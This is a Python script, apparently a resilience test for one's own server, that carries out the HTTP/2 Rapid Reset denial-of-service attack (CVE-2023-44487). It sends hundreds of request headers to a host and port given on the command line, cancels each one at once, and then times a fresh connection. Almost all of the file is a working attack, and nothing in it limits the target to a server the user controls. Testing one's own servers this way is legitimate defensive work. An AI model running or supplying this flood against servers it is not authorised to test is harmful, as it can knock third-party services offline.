"""Rapid reset (CVE-2023-44487) on your own server: requests, each cancelled at once. rapid_reset.py HOST PORT [STREAMS]

A sound server notices, or bears it; either way it still serves a fresh connection at once.
"""

from __future__ import annotations

import sys
import time

import h2prism


def rapid_reset(host: str, port: int, streams: int = 500) -> str:
    """What became of the connection, and how long a fresh one then took."""
    with h2prism.connect(host, port) as peer:
        head = peer.request_fields()
        try:
            for stream in range(1, 2 * streams, 2):
                peer.send(
                    h2prism.Headers(stream, head, end_stream=True),
                    h2prism.RstStream(stream, "CANCEL"),
                    delivery="whole",
                )
            peer.fence()
            ended = "bore it"
        except h2prism.PeerClosed:
            goaways = [e.frame for e in peer.events.filter(h2prism.Goaway, received=True)]
            code = goaways[-1].code if goaways and isinstance(goaways[-1], h2prism.Goaway) else None
            ended = "closed the connection" if code is None else f"answered {h2prism.ErrorCode(code).name}"
        sent = len(peer.events.filter(h2prism.RstStream, sent=True))
    start = time.monotonic()
    with h2prism.connect(host, port) as fresh:
        status = fresh.response(fresh.request()).status
    return f"{sent} resets: {ended}; a fresh connection had {status} in {(time.monotonic() - start) * 1000:.0f} ms"


if __name__ == "__main__":
    print(rapid_reset(sys.argv[1], int(sys.argv[2]), int((sys.argv[3:] or ["500"])[0])))
